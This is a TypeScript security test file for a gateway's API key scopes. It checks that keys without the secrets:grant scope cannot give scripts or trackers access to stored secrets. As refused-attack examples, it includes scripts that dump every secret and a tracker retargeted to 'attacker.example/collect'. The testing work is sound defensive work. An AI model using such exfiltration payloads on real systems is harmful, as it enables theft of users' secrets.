import { execFile } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db } from "../../common/db.js";
import { migrate } from "../../common/migrate.js";
import { ApiKeysService } from "../../gateway/api-keys/service.js";
import { hashToken, newApiKeyToken } from "../../gateway/auth/tokens.js";
import { call, createSecret, newUser, type Answer, type Auth, type TestUser } from "../helpers/http.js";
import { KratosStandIn } from "../helpers/kratos-stand-in.js";
import { openScratchDatabase } from "../helpers/scratch-database.js";
import { Stack } from "../helpers/stack.js";
import { API_TRACKERS, PAGE_TRACKERS } from "../helpers/trackers.js";
import { responderBody } from "../helpers/webhooks.js";

// Attack: an API key was said to reach only /api/user/secrets*, but any key
// could create a responder with secrets "all" and read every value through
// its script. Keys now carry scopes chosen at creation (default: everything
// but key management, as before); a route outside a key's scopes is 403, and
// a key without secrets:grant cannot give scripts or templates access to
// secrets: not by creating or widening an access setting, nor by changing
// the script or target of one that already grants some. Each such refusal is
// in the user's audit trail. Narrowing stays allowed.

const run = promisify(execFile);
const ALL_SCOPES = ["secrets", "responders", "trackers", "secrets:grant", "scripts", "tags"];
const VALUE_A = "scopes-planted-value-a";
const VALUE_B = "scopes-planted-value-b";

let stack: Stack;
let kratos: KratosStandIn;

beforeAll(async () => {
  kratos = await KratosStandIn.start();
  stack = await Stack.start({ gatewayEnv: { KRATOS_URL: kratos.url, TRACKER_SCHEDULER_POLL_MS: "0" } });
});
afterAll(async () => {
  await stack?.stop();
  await kratos?.close();
});

/** A signed-in user: a Kratos session cookie the stand-in knows. */
function session(): { cookie: string } {
  const cookieValue = crypto.randomBytes(16).toString("hex");
  kratos.addSession(cookieValue, { id: crypto.randomUUID(), email: `s-${crypto.randomUUID()}@example.test` });
  return { cookie: `ory_kratos_session=${cookieValue}` };
}

let keys = 0;
/** A key of `owner` made by the operator endpoint; `scopes` undefined leaves the default. */
async function operatorKey(owner: TestUser, scopes?: string[]): Promise<{ id: string; auth: { bearer: string }; scopes: string[] }> {
  const res = await call(stack, "POST", `/api/users/${owner.id}/api_keys`, {
    auth: { bearer: stack.operatorToken },
    json: { name: `key-${++keys}`, ...(scopes ? { scopes } : {}) },
  });
  if (res.status !== 201) throw new Error(`create key: ${res.status} ${res.text}`);
  return { id: res.body.id, auth: { bearer: res.body.token }, scopes: res.body.scopes };
}

describe("API key endpoints: scopes chosen at creation", () => {
  it("default to everything but key management, are returned by every key endpoint, and can be replaced", async () => {
    const me = session();
    const plain = await call(stack, "POST", "/api/user/api_keys", { auth: me, json: { name: "default" } });
    expect(plain.status).toBe(201);
    expect(plain.body.scopes).toEqual(ALL_SCOPES);

    // Stored in one order, whatever order they were asked in.
    const some = await call(stack, "POST", "/api/user/api_keys", { auth: me, json: { name: "some", scopes: ["trackers", "secrets"] } });
    expect(some.status).toBe(201);
    expect(some.body.scopes).toEqual(["secrets", "trackers"]);

    const listed = await call(stack, "GET", "/api/user/api_keys", { auth: me });
    expect(listed.body.map((k: { name: string; scopes: string[] }) => [k.name, k.scopes])).toEqual([
      ["default", ALL_SCOPES],
      ["some", ["secrets", "trackers"]],
    ]);
    const regenerated = await call(stack, "POST", `/api/user/api_keys/${some.body.id}/_regenerate`, { auth: me });
    expect(regenerated.body.scopes).toEqual(["secrets", "trackers"]);
    const renamed = await call(stack, "PUT", `/api/user/api_keys/${some.body.id}`, { auth: me, json: { name: "renamed" } });
    expect(renamed.body.scopes).toEqual(["secrets", "trackers"]);

    // Replaced by a session; the same token then has the new scopes.
    const token = { bearer: regenerated.body.token as string };
    expect((await call(stack, "GET", "/api/webhooks/responders", { auth: token })).status).toBe(403);
    const widened = await call(stack, "PUT", `/api/user/api_keys/${some.body.id}`, { auth: me, json: { scopes: ["responders"] } });
    expect(widened.status).toBe(200);
    expect(widened.body.scopes).toEqual(["responders"]);
    expect((await call(stack, "GET", "/api/webhooks/responders", { auth: token })).status).toBe(200);
    expect((await call(stack, "GET", "/api/user/secrets", { auth: token })).status).toBe(403);
  });

  it.each([
    ["an unknown scope", ["secrets", "admin"]],
    ["a key management scope", ["api_keys"]],
    ["an empty list", []],
    ["a repeated scope", ["secrets", "secrets"]],
    ["a string instead of a list", "secrets"],
    ["a scope in another case", ["Secrets"]],
  ])("refuses %s with 400, on create and on update", async (_label, scopes) => {
    const me = session();
    const created = await call(stack, "POST", "/api/user/api_keys", { auth: me, json: { name: "bad", scopes } });
    expect(created.status).toBe(400);
    expect(created.body.message).toMatch(/scopes/);
    const ok = await call(stack, "POST", "/api/user/api_keys", { auth: me, json: { name: "ok" } });
    const updated = await call(stack, "PUT", `/api/user/api_keys/${ok.body.id}`, { auth: me, json: { scopes } });
    expect(updated.status).toBe(400);
    expect((await call(stack, "GET", "/api/user/api_keys", { auth: me })).body.map((k: { name: string }) => k.name)).toEqual(["ok"]);
  });

  it("the operator's first key (npm run admin -- create-user) gets the default scopes; an API key still manages no keys", async () => {
    const admin = await run(process.execPath, ["--import", "tsx", "common/cli/admin.ts", "create-user", "--email", `admin-${crypto.randomUUID()}@example.test`, "--url", stack.url], {
      cwd: path.resolve(import.meta.dirname, "../.."),
      env: { PATH: process.env.PATH, OPERATOR_TOKEN: stack.operatorToken },
    });
    const made = JSON.parse(admin.stdout) as { token: string; scopes: string[] };
    expect(made.scopes).toEqual(ALL_SCOPES);
    expect((await call(stack, "GET", "/api/webhooks/responders", { auth: { bearer: made.token } })).status).toBe(200);

    const user = await newUser(stack);
    const listed = await call(stack, "GET", "/api/user/secrets", { auth: user.auth });
    expect(listed.status).toBe(200);
    const first = await call(stack, "POST", `/api/users/${user.id}/api_keys`, { auth: { bearer: stack.operatorToken }, json: { name: "first" } });
    expect(first.body.scopes).toEqual(ALL_SCOPES);
    const limited = await operatorKey(user, ["responders"]);
    expect(limited.scopes).toEqual(["responders"]);
    for (const auth of [user.auth, limited.auth]) {
      expect((await call(stack, "GET", "/api/user/api_keys", { auth })).status).toBe(403);
      expect((await call(stack, "POST", "/api/user/api_keys", { auth, json: { name: "x", scopes: ALL_SCOPES } })).status).toBe(403);
    }
  });

  it("are described in the OpenAPI document of the key endpoints", async () => {
    const doc = (await call(stack, "GET", "/api-docs/openapi.json")).body;
    const body = (p: string, m: string) => doc.paths[p][m].requestBody.content["application/json"].schema;
    for (const schema of [body("/api/user/api_keys", "post"), body("/api/user/api_keys/{api_key_id}", "put"), body("/api/users/{user_id}/api_keys", "post")]) {
      expect(schema.properties.scopes).toMatchObject({ type: "array", minItems: 1, uniqueItems: true, items: { type: "string", enum: ALL_SCOPES } });
      expect(schema.required ?? []).not.toContain("scopes");
    }
    expect(doc.components.schemas.ApiKey.properties.scopes).toMatchObject({ type: "array", items: { enum: ALL_SCOPES } });
    expect(doc.components.schemas.ApiKey.required).toContain("scopes");
    expect(doc.components.schemas.ApiKeyWithToken.required).toContain("scopes");
  });
});

describe("every route an API key can reach", () => {
  // Which scope each family of routes needs, by path; a new route outside these fails the test below.
  const SCOPE_OF: [RegExp, string][] = [
    [/^\/api\/user\/secrets(\/|$)/, "secrets"],
    [/^\/api\/webhooks\/responders(\/|$)/, "responders"],
    [/^\/api\/web_scraping\/(api|page)_trackers(\/|$)/, "trackers"],
    [/^\/api\/user\/scripts(\/|$)/, "scripts"],
    [/^\/api\/user\/tags(\/|$)/, "tags"],
    // Export and import need the scope of each collection their body names: here, secrets.
    [/^\/api\/user\/data\//, "secrets"],
  ];
  // Routes any of a user's keys may use, whatever its scopes: display preferences, which hold nothing a scope guards.
  const ANY_KEY = [/^\/api\/user\/settings$/];
  const PER_BODY: [RegExp, unknown][] = [
    [/\/_?export$/, { include: { secrets: true } }],
    [/\/_?import(_preview)?$/, { document: { version: 1, data: { secrets: [] } } }],
  ];

  it("is refused (403, JSON) to a key without its scope before its input is read, and served to one with it", async () => {
    const doc = (await call(stack, "GET", "/api-docs/openapi.json")).body as {
      paths: Record<string, Record<string, { security?: Record<string, string[]>[] }>>;
    };
    const routes = Object.entries(doc.paths).flatMap(([p, ops]) =>
      Object.entries(ops)
        .filter(([, op]) => op.security?.some((s) => "apiKey" in s))
        .map(([m, _op]) => ({ method: m.toUpperCase(), path: p })),
    );
    expect(routes.length).toBeGreaterThanOrEqual(25);

    const owner = await newUser(stack);
    const without = new Map<string, Auth>();
    for (const scope of ["secrets", "responders", "trackers", "scripts", "tags"]) {
      without.set(scope, (await operatorKey(owner, ALL_SCOPES.filter((s) => s !== scope))).auth);
    }
    const everything = (await operatorKey(owner)).auth;

    const oneScope = (await operatorKey(owner, ["tags"])).auth;
    for (const { method, path: template } of routes) {
      if (ANY_KEY.some((re) => re.test(template))) {
        const served = await call(stack, method, template, { auth: oneScope, json: method === "POST" ? {} : undefined });
        expect(served.status, `${method} ${template} with any key`).toBe(200);
        continue;
      }
      const scope = SCOPE_OF.find(([re]) => re.test(template))?.[1];
      expect(scope, `${method} ${template} belongs to no scope`).toBeDefined();
      const p = template.replace(/\{[^}]+\}/g, () => crypto.randomUUID());
      // A body that no route accepts: a refusal that reads it would say 400. A route whose
      // body names the scopes it needs reads it first, and gets one that names the scope.
      const perBody = template.startsWith("/api/user/data/") ? PER_BODY.find(([re]) => re.test(template))?.[1] : undefined;
      const json = perBody ?? (method === "POST" || method === "PUT" ? { unexpected: "x".repeat(10) } : undefined);
      const refused = await call(stack, method, p, { auth: without.get(scope!), json });
      expect(refused.status, `${method} ${template}`).toBe(403);
      expect(refused.body, `${method} ${template}`).toEqual({ message: `this API key lacks the ${scope} scope` });
      const served = await call(stack, method, p, { auth: everything, json });
      expect(served.status, `${method} ${template} with its scope`).not.toBe(403);
      expect(served.status, `${method} ${template} with its scope`).toBeLessThan(500);
    }
  });
});

interface AuditEvent {
  outcome: string;
  reason?: string;
  consumer?: string;
  secretIds: string[];
}

describe("a key without secrets:grant", () => {
  let owner: TestUser;
  let limited: { id: string; auth: { bearer: string } };
  let granting: { auth: { bearer: string } };
  let a: string;
  let b: string;
  const refusals: { consumer: string; secretIds: string[]; all: boolean }[] = [];

  beforeAll(async () => {
    owner = await newUser(stack);
    limited = await operatorKey(owner, ["secrets", "responders", "trackers"]);
    granting = await operatorKey(owner);
    a = await createSecret(stack, owner, "A", VALUE_A);
    b = await createSecret(stack, owner, "B", VALUE_B);
  });

  /** Expects the key's request to be refused for want of secrets:grant, and notes the audit record it must leave. */
  async function refusedGrant(res: Promise<Answer<{ message?: string }>>, consumer: string, granted: string[] | "all") {
    const r = await res;
    expect(r.status, r.text).toBe(403);
    expect(r.body.message).toMatch(/^this API key lacks the secrets:grant scope/);
    refusals.push({ consumer, secretIds: granted === "all" ? [] : granted, all: granted === "all" });
  }

  const as = (auth: Auth) => ({
    post: (p: string, json: unknown) => call(stack, "POST", p, { auth, json }),
    put: (p: string, json: unknown) => call(stack, "PUT", p, { auth, json }),
  });

  it("cannot create a responder, API tracker or page tracker with access to secrets, but can without", async () => {
    const key = as(limited.auth);
    const responder = (secrets: unknown) => responderBody({ settings: { script: "({ body: JSON.stringify(context.secrets) })", secrets } });
    await refusedGrant(key.post("/api/webhooks/responders", responder("all")), "responder", "all");
    await refusedGrant(key.post("/api/webhooks/responders", responder({ selected: [a] })), "responder", [a]);
    // The reference's shapes are the same grants: names are refused as the ids they name.
    await refusedGrant(key.post("/api/webhooks/responders", responder({ type: "all" })), "responder", "all");
    await refusedGrant(key.post("/api/webhooks/responders", responder({ type: "selected", secrets: ["B"] })), "responder", [b]);
    expect((await key.post("/api/webhooks/responders", responder({ type: "none" }))).status).toBe(201);
    expect((await key.post("/api/webhooks/responders", responder("none"))).status).toBe(201);
    expect((await key.post("/api/webhooks/responders", responder({ selected: [] }))).status).toBe(201);

    const apiTracker = (name: string, secrets: unknown) => ({ name, config: { revisions: 1 }, target: { url: "https://example.com/" }, secrets });
    await refusedGrant(key.post(API_TRACKERS, apiTracker("t-all", "all")), "api_tracker", "all");
    await refusedGrant(key.post(API_TRACKERS, apiTracker("t-sel", { selected: [b] })), "api_tracker", [b]);
    expect((await key.post(API_TRACKERS, apiTracker("t-none", "none"))).status).toBe(201);

    const pageTracker = (name: string, secrets: unknown) => ({ name, config: { revisions: 1 }, target: { extractor: "export async function execute() { return 1; }" }, secrets });
    await refusedGrant(key.post(PAGE_TRACKERS, pageTracker("p-all", "all")), "page_tracker", "all");
    expect((await key.post(PAGE_TRACKERS, pageTracker("p-none", "none"))).status).toBe(201);

    // What was refused was not created.
    const names = async (p: string) => (await call(stack, "GET", p, { auth: owner.auth })).body.items.map((x: { name: string }) => x.name);
    expect(await names(API_TRACKERS)).toEqual(["t-none"]);
    expect(await names(PAGE_TRACKERS)).toEqual(["p-none"]);
    expect((await names("/api/webhooks/responders")).length).toBe(3);
  });

  it("cannot widen a responder's setting, nor change what an existing one serves; narrowing is allowed", async () => {
    const script = "({ body: String(Object.keys(context.secrets).length) })";
    const created = await as(granting.auth).post("/api/webhooks/responders", responderBody({ settings: { script, secrets: { selected: [a] } } }));
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    const url = `/api/webhooks/responders/${id}`;
    const settings = (secrets: unknown, extra: Record<string, unknown> = {}) => ({ settings: { requestsToTrack: 0, statusCode: 200, script, secrets, ...extra } });
    const key = as(limited.auth);
    const current = async () => (await call(stack, "GET", `/api/webhooks/responders?q=${id}`, { auth: owner.auth })).body.items.find((r: { id: string }) => r.id === id);

    await refusedGrant(key.put(url, settings({ selected: [a, b] })), `responder:${id}`, [b]);
    await refusedGrant(key.put(url, settings("all")), `responder:${id}`, "all");
    // Same access, but new code reading it, or a template naming a secret: as good as a new grant.
    await refusedGrant(key.put(url, { settings: { ...settings({ selected: [a] }).settings, script: "({ body: JSON.stringify(context.secrets) })" } }), `responder:${id}`, [a]);
    await refusedGrant(key.put(url, settings({ selected: [a] }, { body: "${secrets.A}" })), `responder:${id}`, [a]);
    expect((await current()).settings).toMatchObject({ script, secrets: { selected: [a] } });

    // Neither widening nor new code: allowed.
    expect((await key.put(url, { name: "renamed", enabled: false })).status).toBe(204);
    expect((await key.put(url, settings({ selected: [a] }, { requestsToTrack: 5, statusCode: 201 }))).status).toBe(204);
    // A key with the scope widens; then the limited key narrows, step by step, to nothing.
    expect((await as(granting.auth).put(url, settings("all"))).status).toBe(204);
    expect((await key.put(url, settings({ selected: [a, b] }))).status).toBe(204);
    expect((await key.put(url, settings({ selected: [b] }))).status).toBe(204);
    expect((await key.put(url, settings("none", { script: "({ body: 'no secrets here' })" }))).status).toBe(204);
    expect((await current()).settings.secrets).toBe("none");
    // And from nothing it cannot come back.
    await refusedGrant(key.put(url, settings({ selected: [b] }, { script: "({ body: 'no secrets here' })" })), `responder:${id}`, [b]);
  });

  it("cannot widen a tracker's setting, nor change its scripts or target; narrowing is allowed", async () => {
    const target = { url: "https://example.com/a", configurator: "({ requests: context.requests })" };
    const created = await as(granting.auth).post(API_TRACKERS, { name: "api", config: { revisions: 1 }, target, secrets: { selected: [a] } });
    expect(created.status).toBe(201);
    const api = `${API_TRACKERS}/${created.body.id}`;
    const key = as(limited.auth);
    const consumer = `api_tracker:${created.body.id}`;
    await refusedGrant(key.put(api, { secrets: "all" }), consumer, "all");
    await refusedGrant(key.put(api, { secrets: { selected: [a, b] } }), consumer, [b]);
    await refusedGrant(key.put(api, { target: { ...target, url: "https://attacker.example/collect" } }), consumer, [a]);
    await refusedGrant(key.put(api, { target: { ...target, extractor: "({ body: JSON.stringify(context.params.secrets) })" } }), consumer, [a]);
    expect((await key.put(api, { name: "api renamed", config: { revisions: 3 } })).status).toBe(204);
    expect((await key.put(api, { target: { ...target } })).status).toBe(204);
    expect((await key.put(api, { secrets: "none" })).status).toBe(204);
    // With nothing granted, its target and scripts are the key's to change.
    expect((await key.put(api, { target: { ...target, url: "https://example.com/b" } })).status).toBe(204);

    const extractor = "export async function execute(page) { return await page.title(); }";
    const page = await as(granting.auth).post(PAGE_TRACKERS, { name: "page", config: { revisions: 1 }, target: { extractor }, secrets: "all" });
    expect(page.status).toBe(201);
    const pageUrl = `${PAGE_TRACKERS}/${page.body.id}`;
    await refusedGrant(key.put(pageUrl, { target: { extractor: `${extractor}\n// changed` } }), `page_tracker:${page.body.id}`, "all");
    await refusedGrant(key.put(pageUrl, { target: { extractor, acceptInvalidCertificates: true } }), `page_tracker:${page.body.id}`, "all");
    expect((await key.put(pageUrl, { secrets: { selected: [a] } })).status).toBe(204);
    await refusedGrant(key.put(pageUrl, { secrets: "all" }), `page_tracker:${page.body.id}`, "all");
    const stored = (await call(stack, "GET", `${PAGE_TRACKERS}?q=${page.body.id}`, { auth: owner.auth })).body.items.find((t: { id: string }) => t.id === page.body.id);
    expect(stored).toMatchObject({ secrets: { selected: [a] }, target: { extractor, acceptInvalidCertificates: false } });
  });

  it("left one audit record per refusal in the owner's trail, naming the key and the ids asked for, never a value", async () => {
    const res = await call<{ events: (AuditEvent & { purpose?: string; keyVersions: string[] })[] }>(stack, "GET", "/api/user/secrets/_audit?limit=100", {
      auth: owner.auth,
    });
    expect(res.status).toBe(200);
    const refused = res.body.events.filter((e) => e.outcome === "refused");
    // Newest first; the refusals were noted oldest first.
    expect(
      refused.map((e) => ({ consumer: e.consumer, secretIds: e.secretIds, all: e.reason!.endsWith("(asked for all secrets)") })).reverse(),
    ).toEqual(refusals);
    for (const e of refused) {
      expect(e.reason).toMatch(new RegExp(`^API key ${limited.id} lacks the secrets:grant scope`));
      expect(e.keyVersions).toEqual([]);
    }
    expect(res.text).not.toContain(VALUE_A);
    expect(res.text).not.toContain(VALUE_B);
    // The key with the scope, and the narrowing steps, left no refusal.
    expect(refused).toHaveLength(refusals.length);
    expect(stack.output()).not.toContain(VALUE_A);
  });
});

/**
 * A database with the gateway's migrations before `firstNew` applied, `seed`
 * run on it, then the rest applied; `check` gets it and what was applied.
 */
async function migratedAcross(
  firstNew: string,
  seed: (db: Db) => Promise<void>,
  check: (db: Db, applied: string[]) => Promise<void>,
): Promise<void> {
  const { db, dir, close } = await openScratchDatabase("scopes_migration", { migrations: false });
  try {
    const all = path.resolve(import.meta.dirname, "../../gateway/migrations");
    const before = path.join(dir, "before");
    fs.mkdirSync(before);
    for (const f of fs.readdirSync(all).filter((f) => f < firstNew)) fs.copyFileSync(path.join(all, f), path.join(before, f));
    await migrate(db, before, 1);
    await seed(db);
    await check(db, await migrate(db, all, 1));
  } finally {
    await close();
  }
}

async function insertUser(db: Db): Promise<string> {
  const userId = crypto.randomUUID();
  await db.query("INSERT INTO users (id, email, handle) VALUES ($1, $2, $3)", [userId, `${userId}@example.test`, crypto.randomBytes(8).toString("hex")]);
  return userId;
}

describe("keys made before scopes existed", () => {
  it("get every scope from the migration: what any key could do before", async () => {
    const token = newApiKeyToken();
    let userId = "";
    await migratedAcross(
      "005_",
      async (db) => {
        userId = await insertUser(db);
        await db.query("INSERT INTO api_keys (id, user_id, name, token_hash) VALUES ($1, $2, 'old', $3)", [crypto.randomUUID(), userId, hashToken(token)]);
      },
      async (db, applied) => {
        expect(applied).toContain("005_api_key_scopes.sql");
        const keysService = new ApiKeysService(db, 30);
        const owner = await keysService.authenticate(token);
        expect(owner && [...owner.scopes]).toEqual(ALL_SCOPES);
        expect((await keysService.list(userId)).map((k) => k.scopes)).toEqual([ALL_SCOPES]);
        // The table itself refuses a scope it does not know.
        await expect(db.query("UPDATE api_keys SET scopes = ARRAY['admin'] WHERE user_id = $1", [userId])).rejects.toThrow();
      },
    );
  });

  it("a key with every scope before the scripts and tags scopes existed gets them too; a narrowed key stays narrowed", async () => {
    const keys: [string, string[]][] = [
      ["every", ["secrets", "responders", "trackers", "secrets:grant"]],
      ["narrow", ["secrets", "trackers"]],
      ["no-grant", ["secrets", "responders", "trackers"]],
    ];
    const tokens = new Map(keys.map(([name]) => [name, newApiKeyToken()]));
    await migratedAcross(
      "008_",
      async (db) => {
        const userId = await insertUser(db);
        for (const [name, scopes] of keys) {
          await db.query("INSERT INTO api_keys (id, user_id, name, token_hash, scopes) VALUES ($1, $2, $3, $4, $5::text[])", [
            crypto.randomUUID(),
            userId,
            name,
            hashToken(tokens.get(name)!),
            scopes,
          ]);
        }
      },
      async (db, applied) => {
        expect(applied).toContain("008_user_scripts.sql");
        const keysService = new ApiKeysService(db, 30);
        const scopesOf = async (name: string) => [...((await keysService.authenticate(tokens.get(name)!))?.scopes ?? [])];
        expect(await scopesOf("every")).toEqual(ALL_SCOPES);
        expect(await scopesOf("narrow")).toEqual(["secrets", "trackers"]);
        expect(await scopesOf("no-grant")).toEqual(["secrets", "responders", "trackers"]);
      },
    );
  });
});
